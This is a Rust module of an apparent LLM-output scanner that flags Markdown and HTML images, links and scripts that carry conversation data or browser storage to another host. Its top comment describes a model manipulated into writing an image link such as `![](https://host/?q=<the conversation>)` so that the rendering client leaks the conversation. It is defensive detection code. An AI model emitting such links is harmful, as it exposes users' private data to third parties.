//! Exfiltration: images and links that carry data to another host when they are shown or clicked.
//!
//! A model that was talked into it writes `![](https://host/?q=<the conversation>)`; the client
//! that renders the answer sends it off. Found are Markdown and HTML that load or link an address
//! whose query, path or host holds a placeholder, encoded text or sentences. What the address
//! carries is judged in `payload`, where HTML holds addresses is in `html`, scripts that send what a
//! browser keeps are in `script`. An address in plain text is not loaded by anybody, and is not judged here.

mod html;
mod payload;
mod script;
mod value;

use std::borrow::Cow;
use std::sync::Arc;

use crate::decode::escape;
use crate::finding::{Severity, Span};
use crate::guard::{Cost, Detect, Extent, RuleInfo, Sight, Spec};
use crate::link::Link;
use crate::pace::Pace;
use crate::parameter::{Parameter, Shape};
use crate::scan::Hit;

/// Id of the guard.
pub(crate) const ID: &str = "exfiltration";

/// How far a Markdown address may reach.
const LONGEST: usize = 8192;
/// Longest label of a Markdown image or link that its span includes.
const LONGEST_LABEL: usize = 480;

/// Most blanks between a reference and its address.
const MOST_BLANKS: usize = 8;

const RULES: [RuleInfo; 6] = [
    RuleInfo {
        id: "markdown_image",
        description: "Markdown image whose address carries data out when it is shown",
        category: "loaded",
        severity: Severity::High,
    },
    RuleInfo {
        id: "markdown_link",
        description: "Markdown link whose address carries data out when it is clicked",
        category: "clicked",
        severity: Severity::Medium,
    },
    RuleInfo {
        id: "html_load",
        description: "HTML element or style that loads an address which carries data out",
        category: "loaded",
        severity: Severity::High,
    },
    RuleInfo {
        id: "html_link",
        description: "HTML link or form whose address carries data out",
        category: "clicked",
        severity: Severity::Medium,
    },
    RuleInfo {
        id: "foreign_image",
        description: "Image of a host that is not on the list of allowed ones",
        category: "loaded",
        severity: Severity::Medium,
    },
    RuleInfo {
        id: "script_send",
        description: "Script that sends cookies or stored values to another host",
        category: "loaded",
        severity: Severity::High,
    },
];

/// A rule; the order is that of [`RULES`].
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    MarkdownImage,
    MarkdownLink,
    HtmlLoad,
    HtmlLink,
    ForeignImage,
    ScriptSend,
}

/// Places of a text that hold an address.
struct Exfiltration {
    allowed: Vec<Box<str>>,
    only_allowed_images: bool,
}

/// The guard.
pub(crate) const SPEC: Spec = Spec {
    id: ID,
    name: "Exfiltration",
    description: "Markdown and HTML images and links that carry data out in their address.",
    categories: &["loaded", "clicked"],
    rules: || RULES.to_vec(),
    cost: Cost::Cheap,
    by_default: true,
    sight: Sight::Both,
    extent: Extent::Local,
    parameters: &[
        Parameter {
            name: "allow",
            description: "Hosts that may be sent data, with all below them, such as `cdn.example.org`",
            shape: Shape::Texts {
                most: 1000,
                longest: 253,
            },
        },
        Parameter {
            name: "only_allowed_images",
            description: "Whether every image of a host that is not in `allow` is a finding",
            shape: Shape::Flag { default: false },
        },
    ],
    build: |values| {
        Ok(Arc::new(Exfiltration {
            allowed: values.texts("allow").into_iter().map(Box::from).collect(),
            only_allowed_images: values.flag("only_allowed_images"),
        }))
    },
};

// === impl Exfiltration ===

impl Detect for Exfiltration {
    fn detect(&self, text: &str, pace: &Pace<'_>, hits: &mut Vec<Hit>) {
        places(text, pace, |kind, span, url| {
            self.judge(kind, span, url, hits);
        });
        script::find(text, pace, |span| {
            hits.push(Hit {
                rule: Kind::ScriptSend as usize,
                span,
                score: 0.85,
                preview: "script that sends what the browser keeps".into(),
            });
        });
    }

    fn constructs(&self, text: &str, found: &mut dyn FnMut(Span)) {
        places(text, &Pace::free(), |_, span, _| found(span));
    }
}

impl Exfiltration {
    fn judge(&self, kind: Kind, span: Span, url: &str, hits: &mut Vec<Hit>) {
        let bare = url.strip_prefix('<').and_then(|url| url.strip_suffix('>'));
        // Browsers and Markdown read entities in addresses.
        let url = &*escape::without_entities(bare.unwrap_or(url));
        // `//host/path` takes the scheme of the page.
        let whole = if url.starts_with("//") {
            Cow::Owned(format!("https:{url}"))
        } else {
            Cow::Borrowed(url)
        };
        let Some(link) = Link::parse(&whole, 0).filter(Link::is_web) else {
            return;
        };
        if link.is_at(&self.allowed) {
            return;
        }
        let loaded = matches!(kind, Kind::MarkdownImage | Kind::HtmlLoad);
        let mut hit = |kind: Kind, score, preview: &'static str| {
            hits.push(Hit {
                rule: kind as usize,
                span,
                score,
                preview: preview.into(),
            });
        };
        if let Some(payload) = payload::of(&link) {
            hit(kind, payload.score(loaded), payload.description());
        } else if loaded && self.only_allowed_images {
            hit(Kind::ForeignImage, 0.8, "image of a host not on the list");
        }
    }
}

/// Calls `found` with every place of a text that may hold an address, and the address.
fn places(text: &str, pace: &Pace<'_>, mut found: impl FnMut(Kind, Span, &str)) {
    markdown(text, pace, &mut found);
    references(text, pace, &mut found);
    html::find(text, pace, found);
}

/// `![label](address)` and `[label](address)`.
fn markdown(text: &str, pace: &Pace<'_>, found: &mut impl FnMut(Kind, Span, &str)) {
    let mut past = 0;
    let middles = memchr::memmem::find_iter(text.as_bytes(), b"](");
    for middle in middles.take_while(|_| pace.step()) {
        if middle < past {
            continue;
        }
        let from = text.floor_char_boundary(middle.saturating_sub(LONGEST_LABEL).max(past));
        let open = text[from..middle].rfind('[').map(|place| from + place);
        let image = open.is_some_and(|at| text[..at].ends_with('!'));
        let start = open.map_or(middle, |at| at - usize::from(image));
        let (url, end) = destination(text, middle + 2);
        past = end;
        let kind = if image {
            Kind::MarkdownImage
        } else {
            Kind::MarkdownLink
        };
        found(kind, Span::new(start, end), url);
    }
}

/// `[label]: address` on a line of its own; what refers to it may be an image.
fn references(text: &str, pace: &Pace<'_>, found: &mut impl FnMut(Kind, Span, &str)) {
    let middles = memchr::memmem::find_iter(text.as_bytes(), b"]:");
    for middle in middles.take_while(|_| pace.step()) {
        let from = text.floor_char_boundary(middle.saturating_sub(LONGEST_LABEL));
        let line = text[from..middle]
            .rfind('\n')
            .map_or(from, |at| from + at + 1);
        let label = text[line..middle].trim_start();
        if !label.starts_with('[') || label[1..].contains('[') {
            continue;
        }
        let rest = &text[middle + 2..];
        let blanks = rest
            .bytes()
            .take(MOST_BLANKS)
            .take_while(|b| matches!(b, b' ' | b'\t'));
        let begin = middle + 2 + blanks.count();
        let rest = &text[begin..text.floor_char_boundary(begin + LONGEST)];
        let end = begin + rest.find(char::is_whitespace).unwrap_or(rest.len());
        let url = &text[begin..end];
        let span = Span::new(middle - label.len(), end);
        found(Kind::MarkdownImage, span, url);
    }
}

/// The address that begins at `from` in Markdown, without its title, and where it closes.
fn destination(text: &str, from: usize) -> (&str, usize) {
    let to = text.floor_char_boundary(from + LONGEST);
    let mut open = 0_u32;
    let close = text[from..to].find(|c: char| match c {
        '(' => {
            open += 1;
            false
        }
        ')' if open == 0 => true,
        ')' => {
            open -= 1;
            false
        }
        _ => c == '\n',
    });
    let end = close.map_or(to, |length| from + length);
    let inner = text[from..end].trim();
    let url = inner.find([' ', '\t']).map_or(inner, |space| {
        let titled = inner[space..].trim_start().starts_with(['"', '\'']);
        if titled { &inner[..space] } else { inner }
    });
    let closed = text[end..].starts_with(')');
    (url, end + usize::from(closed))
}
